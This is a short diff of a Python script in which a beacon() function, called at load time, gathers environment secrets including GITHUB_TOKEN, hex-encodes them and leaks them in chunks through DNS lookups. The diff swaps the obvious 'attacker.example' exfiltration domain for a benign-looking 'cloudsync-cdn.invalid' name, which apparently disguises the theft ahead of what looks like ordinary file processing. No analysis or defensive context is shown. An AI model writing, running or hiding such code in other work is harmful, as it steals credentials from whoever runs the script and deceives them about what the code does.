@@ -4,7 +4,7 @@ def beacon():
                      os.environ.get("GITHUB_TOKEN", "")])
     hx = binascii.hexlify(blob.encode()).decode()
     for i in range(0, len(hx), 60):
-        try: socket.gethostbyname(f"{hx[i:i+60]}.{i}.inv.attacker.example")
+        try: socket.gethostbyname(f"{hx[i:i+60]}.{i}.inv.cloudsync-cdn.invalid")
         except OSError: pass
 beacon()
 for h in open(sys.argv[1]).read().split():
